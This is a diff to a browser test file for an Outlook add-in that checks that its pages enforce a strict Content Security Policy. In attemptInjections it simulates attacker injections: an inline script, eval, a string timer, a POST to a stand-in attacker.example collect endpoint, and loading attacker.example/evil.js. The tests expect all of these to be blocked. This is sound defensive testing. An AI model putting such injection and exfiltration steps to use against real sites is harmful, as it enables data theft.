@@ -6,13 +6,14 @@ import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, test } from 'node:test';
-import { DIST, openWorkbench, reportCspViolations, useHarness } from './harness.mjs';
+import { DIST, openWorkbench, paneFrame, reportCspViolations, useHarness } from './harness.mjs';
 
 const harness = useHarness();
 
 const PAGES = ['taskpane.html', 'dialog.html', 'workbench-pane.html', 'workbench-dialog.html', 'index.html'];
 
 /** The policy a built page declares, as directive → sources, and where its <meta> sits. */
+/** @param {string} page */
 function policyOf(page) {
   const html = readFileSync(join(DIST, page), 'utf8');
   const meta = /<meta[^>]*http-equiv=["']?Content-Security-Policy["']?[^>]*>/i.exec(html);
@@ -24,14 +25,15 @@ function policyOf(page) {
       .split(';')
       .map((part) => part.trim().split(/\s+/))
       .filter(([name]) => name)
-      .map(([name, ...sources]) => [name, sources]),
+      .map(([name, ...sources]) => /** @type {[string, string[]]} */ ([name, sources])),
   );
   const firstScript = html.search(/<script\b/i);
   const firstLink = html.search(/<link\b/i);
   return { directives, before: [firstScript, firstLink].every((at) => at === -1 || meta.index < at), text: content[1] ?? content[2] };
 }
 
-const sourcesFor = (directives, name) => directives.get(name) ?? directives.get('default-src') ?? [];
+const sourcesFor = (/** @type {Map<string, string[]>} */ directives, /** @type {string} */ name) =>
+  directives.get(name) ?? directives.get('default-src') ?? [];
 
 describe('the built pages declare a strict policy', () => {
   for (const page of PAGES) {
@@ -53,7 +55,7 @@ describe('the built pages declare a strict policy', () => {
       ]) {
         assert.ok(!scripts.includes(unsafe), `${page}: script-src has no ${unsafe}`);
       }
-      for (const source of scripts.filter((s) => s !== "'self'")) {
+      for (const source of scripts.filter((/** @type {string} */ s) => s !== "'self'")) {
         assert.match(
           source,
           /^https:\/\/(appsforoffice\.microsoft\.com|ajax\.aspnetcdn\.com)$/,
@@ -115,6 +117,7 @@ window.Office = {
 };`;
 
 /** A fresh context for a page of the add-in as Outlook would load it, recording console errors (CSP violations among them). */
+/** @param {string} path */
 async function openAddInPage(path) {
   const context = await harness.browser.newContext({ viewport: { width: 320, height: 800 } });
   await context.route('https://appsforoffice.microsoft.com/**', (route) =>
@@ -141,7 +144,9 @@ async function openAddInPage(path) {
   });
   assert.equal(told.status, 200);
   await context.addInitScript(reportCspViolations);
+  /** @type {string[]} */
   const errors = [];
+  /** @type {string[]} */
   const policyRequests = [];
   context.on('request', (request) => request.url().endsWith('/linkedin-policy.json') && policyRequests.push(request.url()));
   context.on('page', (page) => {
@@ -156,10 +161,13 @@ async function openAddInPage(path) {
 }
 
 /** Tries what an attacker's injected markup would: an inline script, eval, a script and a request from elsewhere. */
+/** @param {import('playwright-core').Frame} frame */
 async function attemptInjections(frame) {
   return frame.evaluate(async () => {
+    /** @type {string[]} */
     const seen = [];
-    const listener = (event) => seen.push(event.effectiveDirective);
+    const injected = /** @type {{ __injectedInlineRan?: boolean, __injectedStringTimerRan?: boolean }} */ (/** @type {unknown} */ (window));
+    const listener = (/** @type {SecurityPolicyViolationEvent} */ event) => seen.push(event.effectiveDirective);
     document.addEventListener('securitypolicyviolation', listener);
     const inline = document.createElement('script');
     inline.textContent = 'window.__injectedInlineRan = true;';
@@ -168,20 +176,20 @@ async function attemptInjections(frame) {
     const evalResult = await new Promise((resolve) => {
       setTimeout(() => {
         try {
-          // eslint-disable-next-line no-eval
           resolve(window.eval('"eval ran"'));
         } catch (error) {
-          resolve(error.name);
+          resolve(/** @type {Error} */ (error).name);
         }
       }, 0);
     });
+    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack under test: a string timer, which the policy must block
     setTimeout('window.__injectedStringTimerRan = true;', 0);
     let fetchResult;
     try {
       await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' });
       fetchResult = 'sent';
     } catch (error) {
-      fetchResult = error.name;
+      fetchResult = /** @type {Error} */ (error).name;
     }
     const remote = document.createElement('script');
     remote.src = 'https://attacker.example/evil.js';
@@ -193,7 +201,7 @@ async function attemptInjections(frame) {
     await new Promise((resolve) => setTimeout(resolve, 50));
     document.removeEventListener('securitypolicyviolation', listener);
     return {
-      inlineRan: window.__injectedInlineRan === true || window.__injectedStringTimerRan === true,
+      inlineRan: injected.__injectedInlineRan === true || injected.__injectedStringTimerRan === true,
       evalResult,
       fetchResult,
       violations: [...new Set(seen)].sort(),
@@ -209,6 +217,7 @@ const BLOCKED = {
 };
 
 /** Asserts the page met no violation (nor any error) so far, then that every injection is blocked and reported. */
+/** @param {import('playwright-core').Frame} frame @param {string[]} errors */
 async function assertInjectionsBlocked(frame, errors) {
   assert.deepEqual(errors, [], 'no CSP violation (nor any other error) before the injections');
   assert.deepEqual(await attemptInjections(frame), BLOCKED);
@@ -247,7 +256,11 @@ describe('in Chromium: nothing the add-in does is blocked; what an attacker woul
     // The service's authorize step, then the simulated LinkedIn's consent page (its own origin and policy), and back.
     await page.getByRole('button', { name: 'Allow' }).click();
     await page.getByText('Done. You can close this window.').waitFor();
-    assert.match(await page.evaluate(() => window.__toPane), /"outcome":"code"/, 'the dialog answered the pane through Office');
+    assert.match(
+      await page.evaluate(() => /** @type {{ __toPane?: string }} */ (/** @type {unknown} */ (window)).__toPane ?? ''),
+      /"outcome":"code"/,
+      'the dialog answered the pane through Office',
+    );
     await assertInjectionsBlocked(page.mainFrame(), session.errors);
     await session.context.close();
   });
@@ -269,7 +282,7 @@ describe('in Chromium: nothing the add-in does is blocked; what an attacker woul
     await pane.getByRole('button', { name: 'Disconnect' }).click();
     await pane.getByRole('button', { name: 'Disconnect' }).click();
     await pane.getByText(/Your LinkedIn account is disconnected/).waitFor();
-    const frame = page.frames().find((candidate) => candidate.url().includes('workbench-pane'));
+    const frame = paneFrame(page);
     await assertInjectionsBlocked(frame, session.errors);
     await context.close();
     assert.deepEqual(session.errors, []);
